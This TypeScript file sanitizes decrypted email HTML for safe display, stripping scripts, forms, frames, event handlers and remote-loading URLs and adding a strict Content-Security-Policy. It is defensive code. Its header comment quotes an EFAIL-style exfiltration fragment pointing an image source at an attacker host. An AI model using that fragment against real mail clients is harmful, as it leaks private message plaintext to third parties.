/**
 * Makes a decrypted message's HTML safe to show (DESIGN.md security model 3): no scripts, no event
 * handlers, no forms, no frames or plugins, and no URL that loads anything by itself (EFAIL:
 * `<img src="http://attacker/` + plaintext exfiltrates the plaintext the moment it is rendered).
 * Images stay only as `data:` URLs; links stay (a click is a person's decision) but open in a new
 * tab without a referrer. The frame's Content-Security-Policy blocks remote loads a second time.
 * Runs on an inert document from DOMParser: nothing in it executes or loads while it is cleaned.
 */

const REMOVED_ELEMENTS = new Set([
  'script', 'noscript', 'template', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'param',
  'link', 'meta', 'base', 'form', 'input', 'button', 'textarea', 'select', 'option', 'svg', 'math',
  'audio', 'video', 'source', 'track', 'picture', 'portal', 'dialog', 'slot',
]);

/** Attributes whose value is a URL that loads by itself when rendered. */
const LOADING_URL_ATTRIBUTES = new Set(['src', 'srcset', 'background', 'poster', 'lowsrc', 'dynsrc', 'data', 'xlink:href', 'imagesrcset']);
/** Attributes whose value is a URL followed only on a click. */
const LINK_ATTRIBUTES = new Set(['href']);
/** URL-bearing attributes with no use in a mail body. */
const DROPPED_ATTRIBUTES = new Set(['action', 'formaction', 'ping', 'cite', 'longdesc', 'usemap', 'manifest', 'itemtype', 'codebase', 'archive']);

const SAFE_IMAGE_URL = /^data:image\/(png|gif|jpe?g|webp|bmp);base64,[a-z0-9+/=\s]*$/i;
const SAFE_LINK_URL = /^(https?:|mailto:)/i;

export function sanitizeHtml(html: string): string {
  const document = new DOMParser().parseFromString(html, 'text/html');
  cleanChildren(document.documentElement);
  return `<!doctype html><html><head><meta charset="utf-8">${document.head.innerHTML}</head><body>${document.body.innerHTML}</body></html>`;
}

function cleanChildren(parent: Element): void {
  for (const child of [...parent.children]) {
    const name = child.localName;
    if (REMOVED_ELEMENTS.has(name)) {
      child.remove();
      continue;
    }
    if (name === 'style') {
      child.textContent = cleanCss(child.textContent ?? '');
      continue;
    }
    cleanAttributes(child);
    cleanChildren(child);
  }
}

function cleanAttributes(element: Element): void {
  for (const attribute of [...element.attributes]) {
    const name = attribute.name.toLowerCase();
    const value = attribute.value.trim();
    if (name.startsWith('on') || DROPPED_ATTRIBUTES.has(name)) element.removeAttribute(attribute.name);
    else if (LOADING_URL_ATTRIBUTES.has(name)) {
      if (!(name === 'src' && SAFE_IMAGE_URL.test(value))) element.removeAttribute(attribute.name);
    } else if (LINK_ATTRIBUTES.has(name)) {
      if (!SAFE_LINK_URL.test(value) || element.localName !== 'a') element.removeAttribute(attribute.name);
    } else if (name === 'style') element.setAttribute('style', cleanCss(value));
  }
  if (element.localName === 'a' && element.hasAttribute('href')) {
    element.setAttribute('target', '_blank');
    element.setAttribute('rel', 'noopener noreferrer');
  }
}

/** Removes `@import` and every `url(…)` that isn't a data: image, and legacy `expression(…)`. */
export function cleanCss(css: string): string {
  return css
    .replace(/@import[^;]*;?/gi, '')
    .replace(/url\(\s*(['"]?)(.*?)\1\s*\)/gi, (whole, _quote: string, url: string) => (SAFE_IMAGE_URL.test(url.trim()) ? whole : 'none'))
    .replace(/expression\s*\(/gi, 'invalid(')
    .replace(/image-set\s*\(/gi, 'invalid(');
}

/** The srcdoc document: the sanitized HTML under its own CSP (the frame's policy applies as well). */
export function buildMessageDocument(sanitizedHtml: string): string {
  const policy = "default-src 'none'; img-src data:; style-src 'unsafe-inline'";
  return sanitizedHtml.replace('<head>', `<head><meta http-equiv="Content-Security-Policy" content="${policy}">`);
}
